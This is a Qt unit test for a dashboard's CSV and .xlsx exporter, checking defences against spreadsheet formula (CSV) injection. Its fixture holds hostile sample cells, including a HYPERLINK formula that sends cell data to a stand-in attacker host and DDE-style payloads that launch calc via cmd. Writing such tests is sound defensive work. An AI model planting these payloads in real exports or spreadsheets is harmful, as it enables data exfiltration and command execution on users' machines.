#include "core/export/ExportQuery.h"
#include "core/export/TableExporter.h"
#include "tests/core/DashboardFixture.h"
#include "tests/support/CliRun.h"
#include "tests/support/SpreadsheetRead.h"
#include "tests/support/TestServer.h"

#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace DashboardFixture;

// CSV injection (OWASP "CSV Injection"): a cell that starts with = + - @, a tab or a carriage
// return is a formula to Excel, WPS and LibreOffice, so an enterprise could make an office's
// spreadsheet open a link or run a command. Exported CSV cells that start so get a leading ';
// .xlsx stores them as text cells, never as formulas.
class TestExportFormulas : public QObject {
    Q_OBJECT

private:
    QTemporaryDir dir;
    Database db;
    AppealSpec hostile;

    static bool dangerous(const QString &cell) {
        return !cell.isEmpty() && QStringLiteral("=+-@\t\r").contains(cell.front());
    }

    ExportTable problemList() {
        ExportQuery q(db);
        return q.build(ExportQuery::Kind::ProblemList, {}).value_or(ExportTable{});
    }

private slots:
    void initTestCase() {
        QVERIFY(db.open(TestServer::location(dir.path(), u"formulas.sqlite"_s)));
        DatabaseInitializer init(db);
        QVERIFY(init.initialize(u"wuhai"_s));
        hostile.number = u"WH2024-0001"_s;
        hostile.unit = u"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击查看详情\")"_s;
        hostile.person = u"@SUM(1+1)*cmd|' /C calc'!A0"_s;
        hostile.phone = u"+86 139 4771 2345"_s;
        hostile.channel = u"\r=1+1"_s;
        hostile.domain = u"\t=1+1"_s;
        hostile.problem = u"-2+3+cmd|' /C calc'!A0"_s;
        appeal(db, hostile);
        AppealSpec plain;
        plain.number = u"WH2024-0002"_s;
        plain.problem = u"贷款审批慢 = 资金紧张"_s; // '=' inside a cell is harmless
        appeal(db, plain);
    }

    void csvCellsThatStartAFormulaGetAQuote() {
        const ExportTable table = problemList();
        QCOMPARE(table.rows.size(), 2);
        const QString path = dir.filePath(u"formulas.csv"_s);
        QString error;
        QVERIFY2(TableExporter::write(table, path, {}, {}, &error), qPrintable(error));
        const QJsonArray rows = SpreadsheetRead::csv(path);
        QCOMPARE(rows.size(), 3);
        int neutralised = 0;
        for (int r = 0; r < table.rows.size(); ++r) {
            for (int c = 0; c < table.columns.size(); ++c) {
                const QVariant v = table.rows.at(r).value(c);
                const QString want = v.typeId() == QMetaType::QDate
                                         ? v.toDate().toString(Qt::ISODate)
                                         : v.toString();
                const QString got = rows.at(r + 1).toArray().at(c).toString();
                if (dangerous(want)) {
                    QCOMPARE(got, u'\'' + want);
                    ++neutralised;
                } else {
                    QCOMPARE(got, want);
                }
            }
        }
        QCOMPARE(neutralised, 6);
    }

    void publicCsvToo() {
        const QString path = dir.filePath(u"public.csv"_s);
        const CliRun::Result r = CliRun::run(
            db.path(), {u"export"_s, u"problem-list"_s, u"--public"_s, u"--out"_s, path});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        const QJsonArray rows = SpreadsheetRead::csv(path);
        QCOMPARE(rows.size(), 3);
        const QJsonArray header = rows.at(0).toArray();
        int checked = 0;
        for (int c = 0; c < header.size(); ++c) {
            const QString cell = rows.at(1).toArray().at(c).toString();
            QVERIFY2(!dangerous(cell), qPrintable(header.at(c).toString() + u": "_s + cell));
            if (header.at(c).toString() == u"提交单位"_s) {
                QCOMPARE(cell, u'\'' + hostile.unit);
                ++checked;
            }
            if (header.at(c).toString() == u"困难问题"_s) {
                QVERIFY2(cell.startsWith(u"'-2+3"_s), qPrintable(cell));
                ++checked;
            }
        }
        QCOMPARE(checked, 2);
    }

    void xlsxStoresThemAsText() {
        const ExportTable table = problemList();
        const QString path = dir.filePath(u"formulas.xlsx"_s);
        QString error;
        QVERIFY2(TableExporter::write(table, path, {}, {}, &error), qPrintable(error));
        const QJsonObject sheet =
            SpreadsheetRead::xlsx(path).value("sheets"_L1).toArray().first().toObject();
        const QJsonArray rows = sheet.value("rows"_L1).toArray();
        const QJsonArray types = sheet.value("types"_L1).toArray();
        int checked = 0;
        for (int c = 0; c < table.columns.size(); ++c) {
            const QString want = table.rows.at(0).value(c).toString();
            if (!dangerous(want))
                continue;
            // A text cell holding exactly what was stored: no formula, no added quote.
            QCOMPARE(types.at(1).toArray().at(c).toString(), u"s"_s);
            QCOMPARE(rows.at(1).toArray().at(c).toString(), want);
            ++checked;
        }
        QCOMPARE(checked, 6);
    }
};

QTEST_GUILESS_MAIN(TestExportFormulas)
#include "tst_exportformulas.moc"
